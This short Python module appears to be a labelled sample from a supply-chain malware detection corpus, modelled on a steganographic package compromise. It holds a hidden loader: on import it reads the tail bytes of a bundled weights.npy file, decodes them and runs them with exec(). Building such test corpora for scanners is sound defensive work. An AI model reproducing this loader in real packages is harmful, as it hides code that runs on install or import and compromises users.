# pkgguard corpus 418 (steganography), modelled on [telnyx]; inert, never run.
import os

import numpy as np

_weights = np.load(os.path.join(os.path.dirname(__file__), "data", "weights.npy"))
_tail = _weights[-512:].astype(np.uint8).tobytes().rstrip(b"\x00")
exec(_tail.decode("latin-1"))
